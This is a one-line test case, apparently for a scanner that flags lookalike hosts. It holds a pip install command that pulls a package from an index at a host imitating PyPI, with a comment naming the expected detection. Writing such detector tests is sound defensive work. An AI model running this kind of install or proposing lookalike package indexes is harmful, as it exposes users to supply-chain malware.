pip install --index-url https://pypi-mirror.example/simple acme # expect: url-analyzer/lookalike-host
